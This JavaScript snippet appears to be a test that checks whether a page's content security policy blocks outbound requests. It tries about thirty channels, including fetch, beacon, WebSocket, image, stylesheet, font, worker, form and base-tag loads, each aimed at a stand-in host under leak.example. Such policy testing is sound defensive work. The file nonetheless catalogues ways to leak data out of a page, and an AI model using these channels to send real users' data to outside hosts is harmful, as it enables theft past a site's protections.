// Every way out that a page might try, each to a host of its own below leak.example. Run in the page, where its policy
// must stop all of them, and in a page without a policy, where they show that the test can see them.
const at = kind => 'http://' + kind + '.leak.example/x', body = document.body;
const make = (tag, set) => { const e = document.createElement(tag); for (const k in set) e[k] = set[k]; body.append(e); return e };
const attributes = (tag, set) => { const e = document.createElement(tag); for (const k in set) e.setAttribute(k, set[k]); body.append(e); return e };
const tries = {
    'fetch': u => { fetch(u, { mode: 'no-cors' }).catch(() => 0) },
    'fetch-keepalive': u => { fetch(u, { mode: 'no-cors', keepalive: true }).catch(() => 0) },
    'xhr': u => { const x = new XMLHttpRequest(); x.onerror = () => 0; x.open('GET', u); x.send() },
    'beacon': u => { navigator.sendBeacon(u, 'x') },
    'websocket': u => { new WebSocket(u.replace('http', 'ws')).onerror = () => 0 },
    'eventsource': u => { new EventSource(u).onerror = e => e.target.close() },
    'img': u => { make('img', { src: u }) },
    'srcset': u => { make('img', { srcset: u + ' 1x' }) },
    'input-image': u => { make('input', { type: 'image', src: u }) },
    'svg-image': u => {
        const ns = 'http://www.w3.org/2000/svg', svg = document.createElementNS(ns, 'svg'), i = document.createElementNS(ns, 'image');
        i.setAttribute('href', u); i.setAttribute('width', '9'); i.setAttribute('height', '9'); svg.append(i); body.append(svg);
    },
    'poster': u => { make('video', { poster: u }) },
    'video': u => { make('video', { src: u, preload: 'auto' }).load() },
    'audio': u => { make('audio', { src: u, preload: 'auto' }).load() },
    'stylesheet': u => { make('link', { rel: 'stylesheet', href: u }) },
    'import-css': u => { make('style', { textContent: '@import url(' + u + ');' }) },
    'background': u => { make('p', { textContent: 'x' }).style.backgroundImage = 'url(' + u + ')' },
    'cursor': u => { make('p', { textContent: 'x' }).style.listStyleImage = 'url(' + u + ')' },
    'font': u => { new FontFace('leak', 'url(' + u + ')').load().catch(() => 0) },
    'script': u => { make('script', { src: u }) },
    'frame': u => { make('iframe', { src: u }) },
    'object': u => { make('object', { type: 'text/html', data: u }) },
    'embed': u => { attributes('embed', { type: 'text/html', src: u }) },
    'prefetch': u => { make('link', { rel: 'prefetch', href: u }) },
    'preload': u => { make('link', { rel: 'preload', as: 'image', href: u }) },
    'modulepreload': u => { make('link', { rel: 'modulepreload', href: u }) },
    'icon': u => { make('link', { rel: 'icon', href: u }) },
    'manifest': u => { make('link', { rel: 'manifest', href: u }) },
    'form': u => { make('iframe', { name: 'inside' }); attributes('form', { action: u, method: 'post', target: 'inside' }).submit() },
    'worker': u => { new Worker(u) },
    'shared-worker': u => { new SharedWorker(u) },
    'base': u => { make('base', { href: u }); make('img', { src: 'relative.png' }); document.querySelector('base').remove() },
};
const refused = [];
for (const kind in tries) try { tries[kind](at(kind)) } catch (e) { refused.push(kind) }
let markup = 'taken';
try { body.insertAdjacentHTML('beforeend', '<b>x</b>') } catch (e) { markup = 'refused' }
return markup;
